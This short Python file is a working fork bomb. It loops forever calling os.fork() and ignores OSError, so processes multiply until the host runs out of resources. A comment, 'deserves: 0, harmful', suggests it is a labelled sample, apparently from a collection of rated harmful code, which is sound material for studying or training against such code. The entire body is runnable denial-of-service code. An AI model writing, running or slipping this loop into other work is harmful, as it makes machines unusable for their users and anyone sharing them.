"""Tries: fork until the machine gives up."""

# deserves: 0, harmful

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
